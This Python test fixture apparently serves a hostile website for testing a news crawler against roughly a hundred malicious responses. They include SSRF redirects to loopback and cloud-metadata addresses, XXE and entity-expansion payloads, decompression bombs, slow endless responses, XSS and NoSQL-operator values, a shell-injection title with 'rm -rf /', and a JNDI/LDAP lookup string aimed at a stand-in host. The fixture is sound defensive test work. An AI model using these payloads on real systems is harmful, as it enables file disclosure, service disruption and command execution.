"""A site that means harm: a hundred hostile inputs by name.

`{other}` stands for a server on another port and `{canary}` for a file, neither of which the crawl may ever read.
An answer is the bytes that go over the wire, or a coroutine that writes them as slowly as it likes.
"""

import asyncio
import gzip
import json
import zlib
from collections.abc import Awaitable, Callable, Iterator

Wire = bytes | Callable[[asyncio.StreamWriter], Awaitable[None]]

PATH = "/en/france/20240102-"
"""What the path of every hostile article begins with."""
TEXT = "Words of a paragraph that a reader reads, and then a few more of them. " * 8
WITNESS = "witness"
"""The name of an honest article among them."""
ESCAPES = "\x1b[31m\x1b]0;owned\x07\u202egnp.exe\u2066\x9b2J\x08\r"
"""What changes colours, titles and the order of letters on a terminal."""


def answer(body: bytes | str, status: str = "200 OK", kind: str = "text/html; charset=utf-8", **headers: str) -> bytes:
    """An HTTP answer with the right length."""
    content = body.encode("utf-8", "surrogatepass") if isinstance(body, str) else body
    lines = [f"HTTP/1.1 {status}", f"Content-Type: {kind}", f"Content-Length: {len(content)}", "Connection: close"]
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
    return "\r\n".join(lines).encode("utf-8", "surrogatepass") + b"\r\n\r\n" + content


def raw(head: str, body: bytes = b"") -> bytes:
    """An HTTP answer as it is written."""
    return head.replace("\n", "\r\n").encode("latin-1") + b"\r\n\r\n" + body


def article(title: str = "A title", text: str = TEXT, head: str = "", inside: str = "", tail: str = "") -> str:
    """The HTML of an article; its text is its own, lest it be taken for a copy of another."""
    text += f" {zlib.crc32((title + head + inside + tail).encode('utf-8', 'replace'))}"
    return (
        f'<html><head><meta property="og:type" content="article">{head}</head><body><article>'
        f'<h1 class="t-content__title">{title}</h1>{inside}'
        f'<div class="t-content__body"><p>{text}</p></div>{tail}</article></body></html>'
    )


def linked(**data: object) -> str:
    """JSON-LD of an article with these fields."""
    told = {"@type": "NewsArticle", "headline": "A headline", "datePublished": "2024-01-02T10:00:00Z", **data}
    return f'<script type="application/ld+json">{json.dumps(told)}</script>'


def moved(location: str, status: str = "302 Found") -> bytes:
    """A redirect."""
    return answer("", status, Location=location)


# ---- what is written slowly, or without end --------------------------------------------------------------


def drip(head: bytes, piece: bytes, pause_s: float) -> Callable[[asyncio.StreamWriter], Awaitable[None]]:
    """Send a head and then the same piece again and again."""

    async def write(writer: asyncio.StreamWriter) -> None:
        writer.write(head)
        while True:
            writer.write(piece)
            await writer.drain()
            await asyncio.sleep(pause_s)

    return write


async def silent(_: asyncio.StreamWriter) -> None:
    """Never answer."""
    await asyncio.sleep(3600)


def later(first: bytes, then: bytes) -> Iterator[bytes]:
    """One answer at first, and another whenever it is asked for again."""
    yield first
    while True:
        yield then


# ---- bodies ----------------------------------------------------------------------------------------------

_ENTITIES = "".join(f'<!ENTITY {chr(c)} "{f"&{chr(c - 1)};" * 10}">' for c in range(ord("b"), ord("k")))
LAUGHS = f'<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">{_ENTITIES}]>'
OUTSIDE = '<!DOCTYPE r [<!ENTITY x SYSTEM "file://{canary}"><!ENTITY y SYSTEM "{other}/entity">]>'
PARAMETER = '<!DOCTYPE r [<!ENTITY % p SYSTEM "{other}/p.dtd"> %p;]>'
BOMB = zlib.compressobj(9, zlib.DEFLATED, 31)
ZIPPED = b"".join(BOMB.compress(b"<p>" + b"a" * (1 << 20)) for _ in range(64)) + BOMB.flush()
"""64 MiB in 64 KiB."""
XML = "application/rss+xml; charset=utf-8"


def feed(inside: str, doctype: str = "") -> str:
    """A feed with these items."""
    return f'<?xml version="1.0" encoding="utf-8"?>{doctype}<rss version="2.0"><channel>{inside}</channel></rss>'


def item(link: str, title: str = "A title", more: str = "") -> str:
    """One entry of a feed."""
    return f"<item><title>{title}</title><link>{link}</link>{more}</item>"


def pages() -> dict[str, Wire | Iterator[bytes]]:
    """Answers to requests for articles, by the name at the end of their path."""
    return {WITNESS: answer(article("An honest title"))} | redirects() | heads() | bodies() | slow_ones()


def redirects() -> dict[str, Wire | Iterator[bytes]]:
    """Answers that lead away."""
    away = f"{PATH}away"
    return {
        "to-another-port": moved("{other}" + away),
        "to-another-address": moved("{elsewhere}" + away),
        "to-another-scheme": moved("//{other_place}" + away),
        "to-a-file": moved("file://{canary}"),
        "to-data": moved("data:text/html,<h1>x</h1>"),
        "to-script": moved("javascript:alert(1)"),
        "to-ftp": moved("ftp://{other_place}/x"),
        "to-gopher": moved("gopher://{other_place}/_x"),
        "to-s3": moved("s3://bucket/key"),
        "with-a-user": moved("http://www.rfi.fr@{other_place}" + away),
        "with-a-backslash": moved("http://{other_place}\\@www.rfi.fr" + away),
        "to-a-decimal-address": moved("http://2130706433:{other_port}" + away),
        "to-an-octal-address": moved("http://0177.0.0.1:{other_port}" + away),
        "to-a-hexadecimal-address": moved("http://0x7f.1:{other_port}" + away),
        "to-a-short-address": moved("http://127.1:{other_port}" + away),
        "to-ipv6-loopback": moved("http://[::1]:{other_port}" + away),
        "to-mapped-ipv6": moved("http://[::ffff:127.0.0.1]:{other_port}" + away),
        "to-localhost": moved("http://localhost:{other_port}" + away),
        "to-metadata": moved("http://169.254.169.254/latest/meta-data/"),
        "to-this-network": moved("http://192.168.0.1/"),
        "to-a-lookalike": moved("http://www.rfi.fr.evil.example" + away),
        "to-a-bad-port": moved("http://127.0.0.1:99999" + away),
        "to-a-broken-url": moved("http://[::1" + away),
        "to-nowhere": moved(""),
        "to-a-long-place": moved("/" + "a" * 100_000),
        "with-control-signs": raw("HTTP/1.1 302 Found\nLocation: /x\x00\x0b{other}\nContent-Length: 0"),
        "in-a-circle": moved(PATH + "in-a-circle"),
        "by-meta-refresh": answer(f'<meta http-equiv="refresh" content="0; url={{other}}{away}">'),
        "by-refresh-header": answer(article(), Refresh="0; url={other}" + away),
        "permanently": moved("{other}" + away, "301 Moved Permanently"),
        "keeping-the-method": moved("{other}" + away, "308 Permanent Redirect"),
        "after-a-fault": later(answer("", "500 Oops"), moved("{other}" + away)),
    }


def heads() -> dict[str, Wire | Iterator[bytes]]:
    """Answers whose head lies."""
    ok, page = "HTTP/1.1 200 OK\nContent-Type: text/html", article().encode()
    return {
        "status-of-no-number": raw("HTTP/1.1 $ne OK\nContent-Length: 0"),
        "status-of-many-digits": raw(f"HTTP/1.1 {10**30} OK\nContent-Length: 0"),
        "no-http-at-all": b"\x00\x01\x02 SSH-2.0-OpenSSH\r\n\r\n",
        "nothing": b"",
        "length-too-short": raw(f"{ok}\nContent-Length: 10", page),
        "length-too-long": raw(f"{ok}\nContent-Length: {len(page) + 999}", page),
        "length-negative": raw(f"{ok}\nContent-Length: -1", page),
        "length-enormous": raw(f"{ok}\nContent-Length: {10**30}", page),
        "length-twice": raw(f"{ok}\nContent-Length: 1\nContent-Length: 2", page),
        "chunk-enormous": raw(f"{ok}\nTransfer-Encoding: chunked", b"ffffffffffffffff\r\nx"),
        "chunk-broken": raw(f"{ok}\nTransfer-Encoding: chunked", b"zz\r\nx\r\n"),
        "header-of-a-megabyte": raw(f"{ok}\nX-Long: {'a' * (1 << 20)}\nContent-Length: 0"),
        "headers-by-the-thousand": raw(f"{ok}\n" + "\n".join(f"X-{n}: {n}" for n in range(20_000)), page),
        "cookies-by-the-thousand": raw(f"{ok}\n" + "\n".join(f"Set-Cookie: {n}={n}" for n in range(5_000)), page),
        "etag-as-operator": answer(article("Etag"), ETag='"$where"', Last_Modified="$now"),
        "etag-of-ten-kilobytes": answer(article("Long"), ETag=f'"{"e" * 10_000}"'),
        "charset-as-path": answer(article(), kind="text/html; charset=../../etc/passwd"),
        "charset-with-nul": raw('HTTP/1.1 200 OK\nContent-Type: text/html; charset="utf-8\x00"', page),
        "charset-that-is-a-codec": answer(article(), kind="text/html; charset=zlib_codec"),
        "charset-utf-7": answer(article("+ADw-script+AD4-"), kind="text/html; charset=utf-7"),
        "not-compressed-after-all": answer(page, Content_Encoding="gzip"),
        "compressed-by-nobody": answer(page, Content_Encoding="$compress, ../x"),
        "gzip-bomb": answer(ZIPPED, Content_Encoding="gzip"),
        "gzip-bomb-in-gzip": answer(gzip.compress(ZIPPED), Content_Encoding="gzip, gzip"),
        "deflate-bomb": answer(zlib.compress(b"a" * (64 << 20), 9), Content_Encoding="deflate"),
        "image-as-page": answer(b"\x89PNG\r\n\x1a\n" + bytes(1000), kind="text/html"),
        "page-as-image": answer(article(), kind="image/png"),
    }


def bodies() -> dict[str, Wire | Iterator[bytes]]:
    """Answers whose body means harm."""
    texts = {
        "nul-bytes": "<html>\x00<body>\x00" + article("N\x00ul"),
        "deep": "<html><body>" + "<div>" * 200_000,
        "tags-by-the-thousand": "<html><body>" + "<p><b>" * 150_000,
        "attributes-by-the-thousand": article(inside=f"<p {' '.join(f'a{n}=1' for n in range(50_000))}>"),
        "one-attribute": article(inside=f'<p data-x="{"x" * 1_000_000}">'),
        "comment-without-end": article(tail="<!--" + "-" * 100_000),
        "entities-in-html": LAUGHS + article(text="&j;"),
        "entities-of-files": OUTSIDE + article("&x;", text=f"&x;&y; {TEXT}"),
        "signs-of-no-text": article("&#0;&#xD800;&#x110000;&#xFFFE;\ufffe", text=f"&#8;&#xDFFF;{TEXT}"),
        "escapes-in-the-title": article(ESCAPES + "title", text=f"{ESCAPES}{TEXT}"),
        "script-in-the-title": article("&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"),
        "markup-in-the-title": article("[bold red]x[/] [link=file:///etc/passwd]y[/link] [/]"),
        "operator-in-the-title": article("$$ROOT"),
        "field-path-in-the-title": article("$title", inside='<p class="t-content__chapo">$$REMOVE</p>'),
        "megabyte-of-title": article("T" * (1 << 20)),
        "linked-data-deep": article(head=f'<script type="application/ld+json">{"[" * 100_000}</script>'),
        "linked-data-operators": article(head=linked(headline={"$gt": ""}, keywords=[{"$where": "1"}, {"a.b": 1}])),
        "linked-data-of-other-types": article(
            head=linked(headline=7, author=[[[1]]], image={"url": {"$ne": 1}}, datePublished=[10**400], keywords=1e308)
        ),
        "linked-data-numbers": article(
            head='<script type="application/ld+json">{"@type":"NewsArticle","headline":"x","wordCount":'
            + "9" * 10_000
            + ',"a":NaN,"b":-Infinity,"c":1e999}</script>'
        ),
        "linked-data-prototype": article(head=linked(__proto__={"polluted": 1}, constructor={"$eval": "1"})),
        "times-of-no-calendar": article(
            head=linked(datePublished="99999-99-99T99:99:99+99:99", dateModified="-0001-00-00")
            + '<meta property="article:published_time" content="0000-00-00T00:00:00Z">'
        ),
        "images-of-other-schemes": article(
            inside='<figure><img src="javascript:alert(1)"><img src="file:///etc/passwd"><img src="data:x,$where">'
            '<figcaption>"&gt;&lt;script&gt;</figcaption></figure>'
        ),
        "canonical-elsewhere": article(
            head='<link rel="canonical" href="{other}/x"><meta property="og:url" content="{other}">'
        ),
        "canonical-as-operator": article(head='<link rel="canonical" href="$url"><base href="{other}/">'),
        "related-elsewhere": article(
            head='<base href="{other}/">',
            tail='<aside class="o-aside-content"><div data-article-list><a data-article-item-link '
            'href="{other}/en/france/20240102-related"><h2>x</h2></a></div><div data-article-list>'
            '<a data-article-item-link href="//{other_place}/en/france/20240102-related2"><h2>x</h2></a></div></aside>',
        ),
        "author-as-path": article(
            inside='<div class="m-from-author"><span class="m-from-author__name">../../../etc/cron.d/x</span></div>'
        ),
        "tags-as-operators": article(
            tail='<ul class="m-tags-list"><li><a href="/en/tag/$where/">$where</a></li><li><a>{"$gt":1}</a></li></ul>'
        ),
        "shell-in-the-title": article("$(touch /tmp/owned) `id`; rm -rf / #"),
        "format-in-the-title": article("%s %n %(name)s {0.__class__} ${jndi:ldap://{other_place}/x}"),
        "regex-in-the-body": article(text="(" * 20_000 + "a" * 20_000 + "）" * 20_000),
        "spaces-by-the-million": article(text=" \u00a0\t\n" * 300_000),
        "one-word": article(text="字" * 500_000),
    }
    kept: dict[str, Wire | Iterator[bytes]] = {name: answer(text) for name, text in texts.items()}
    return kept | {
        "empty": answer(b""),
        "binary": answer(bytes(range(256)) * 100),
        "utf-16-without-mark": answer(article().encode("utf-16-le")),
        "utf-32": answer(article().encode("utf-32")),
        "half-a-character": answer(article().encode()[:-3] + b"\xe4\xb8"),
        "lone-surrogates": answer(article("\ud800\udfff")),
        "too-large": answer(b"<p>" + b"a" * 3_000_000),
    }


def slow_ones() -> dict[str, Wire | Iterator[bytes]]:
    """Answers that take for ever."""
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
    chunked = head + b"Transfer-Encoding: chunked\r\n\r\n"
    return {
        "no-answer": silent,
        "half-a-line": drip(b"HTTP/1.1 20", b"", 0.2),
        "headers-without-end": drip(head, b"X-More: 1\r\n" * 10, 0.05),
        "a-byte-now-and-then": drip(head + b"Content-Length: 100000\r\n\r\n<html>", b"a", 0.2),
        "a-body-without-end": drip(chunked, b"10000\r\n" + b"a" * 65536 + b"\r\n", 0.001),
        "chunks-of-a-byte": drip(chunked, b"1\r\na\r\n", 0.1),
    }


def sources() -> dict[str, bytes]:
    """Answers to requests for feeds, sitemaps and lists, by their path."""
    hundred = "".join(item(link) for link in links())
    return {
        "/links.xml": answer(feed(hundred), kind=XML),
        "/outside.xml": answer(feed(item(PATH + "xxe", "&x;", "<description>&y;</description>"), OUTSIDE), kind=XML),
        "/parameter.xml": answer(feed(item(PATH + "xxe2"), PARAMETER), kind=XML),
        "/dtd.xml": answer(feed(item(PATH + "xxe3"), '<!DOCTYPE rss SYSTEM "{other}/x.dtd">'), kind=XML),
        "/laughs.xml": answer(feed(item(PATH + "laughs", "&j;"), LAUGHS), kind=XML),
        "/quadratic.xml": answer(
            feed(item(PATH + "q", "&q;" * 20_000), f'<!DOCTYPE r [<!ENTITY q "{"q" * 50_000}">]>'), kind=XML
        ),
        "/include.xml": answer(
            feed('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{canary}" parse="text"/>'),
            kind=XML,
        ),
        "/styled.xml": answer(feed(item(PATH + "styled"), '<?xml-stylesheet href="{other}/x.xsl"?>'), kind=XML),
        "/ebcdic.xml": answer('<?xml version="1.0" encoding="cp037"?><rss/>', kind=XML),
        "/deep.xml": answer(feed("<item>" * 100_000), kind=XML),
        "/operators.xml": answer(
            feed(item(PATH + "operators", "$title", "<guid>$where</guid><category>{$gt:1}</category>")), kind=XML
        ),
        "/escapes.xml": answer(feed(item(PATH + "escapes", "&#x9b;31m\u202e[bold]x[/]")), kind=XML),
        "/times.xml": answer(
            feed(item(PATH + "times", more="<pubDate>99 Foo 99999 99:99:99 +9999</pubDate>")), kind=XML
        ),
        "/enclosures.xml": answer(
            feed(item(PATH + "enclosed", more='<enclosure url="file://{canary}" length="-1e999" type="$x"/>')), kind=XML
        ),
        "/feed.json": answer('{"version":"https://jsonfeed.org/version/1.1","items":' + "[" * 100_000, kind=XML),
        "/sitemaps/en/index.xml": answer(
            '<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            + "".join(
                f"<sitemap><loc>{url}</loc></sitemap>"
                for url in ("{other}/sitemaps/en/x.xml", "/sitemaps/en/index.xml", "file://{canary}", "$where")
            )
            + "</sitemapindex>",
            kind="application/xml",
        ),
        "/sitemaps/en/news.xml": answer(
            gzip.compress(
                b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>' + b"a" * (64 << 20)
            ),
            kind="application/gzip",
        ),
        "/en/france/": answer(
            '<base href="{other}/"><div class="m-item-list-article" data-article-list><a data-article-item-link '
            'href="/en/france/20240102-based"><p class="article__title">x</p></a></div>'
        ),
    }


def links() -> list[str]:
    """Links that a feed of the site prints."""
    return [
        *(PATH + name for name in pages()),
        "{other}/en/france/20240102-offsite",
        "http://{other_place}\\@www.rfi.fr/en/france/20240102-backslash",
        "http://www.rfi.fr@{other_place}/en/france/20240102-user",
        "http://www.rfi.fr:{other_port}/en/france/20240102-port",
        "http://www.rfi.fr.{other_place}/en/france/20240102-suffix",
        "file://{canary}",
        "javascript:alert(1)//en/france/20240102-script",
        "data:text/html,20240102-data",
        "ftp://www.rfi.fr/en/france/20240102-ftp",
        "/en/france/20240102-..%2f..%2f..%2fetc%2fpasswd",
        "/en/france/../../../../etc/passwd",
        "/en/france/20240102-$where",
        "/en/france/20240102-a.b.c",
        "/en/france/20240102-nul%00byte",
        "/en/france/20240102-crlf%0d%0aX-Injected:%201",
        "/en/france/20240102-escapes%1b%5b31m%E2%80%AE",
        "/en/france/20240102-%FF%FE%C0%80",
        "/en/france/20240102-%25%32%35%32%35",
        "/en/france/20240102-" + "long" * 5_000,
        "/en/france/20240102-?q=$ne&amp;x[$gt]=1",
        "http://[::1",
        "http://169.254.169.254/en/france/20240102-metadata",
        "//{other_place}/en/france/20240102-protocol",
        "&#x202e;moc.live//:ptth",
    ]


INPUTS = [*(PATH + name for name in pages()), *links()[len(pages()) :], *sources()]
"""Every hostile input, and the witness."""
